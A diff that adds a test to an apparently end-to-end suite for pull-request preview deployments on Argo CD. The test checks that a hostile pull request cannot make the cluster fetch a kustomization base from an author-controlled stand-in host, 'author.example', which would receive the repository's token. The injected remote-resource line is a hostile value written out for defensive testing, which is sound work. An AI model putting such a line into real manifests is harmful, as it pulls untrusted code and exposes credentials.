@@ -199,6 +199,30 @@ describe("a hostile pull request on a real cluster", () => {
     await allGone(cluster, [namespaceOf(bad, "api")]);
   });
 
+  it("cannot have Argo CD fetch from a host of its author, which would be given the repository's token", async () => {
+    const { cluster } = suite;
+    const good = await open(cluster, shop);
+    await publishAndLabel(cluster, good, ["api"]);
+    const selector = String(good.number);
+    await askUntil(cluster, { selector }, servedBy(`api@${selector}`, "store"));
+    const elsewhere = replaceIn(
+      "api",
+      "kustomization.yaml",
+      "resources:\n",
+      "resources:\n- https://author.example/base.git?ref=main\n",
+    );
+    const bad = await push(cluster, good, ["api"], elsewhere);
+    const path = `/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/${canaryName("api", bad.number)}`;
+    // Git's own word for it: no host was asked.
+    await until("git refuses the address", 180, async () =>
+      /transport 'elsewhere' not allowed/.test(JSON.stringify(await cluster.read(path))),
+    );
+    assert.deepEqual((await ask(cluster, { selector })).hops, [`api@${selector}`, "store"]);
+    await isMended(bad);
+    await cluster.github.close(shop, good.number);
+    await allGone(cluster, [namespaceOf(good, "api")]);
+  });
+
   it("asks for 100 replicas and gets what the quota has room for", async () => {
     const { cluster } = suite;
     const edit = all(
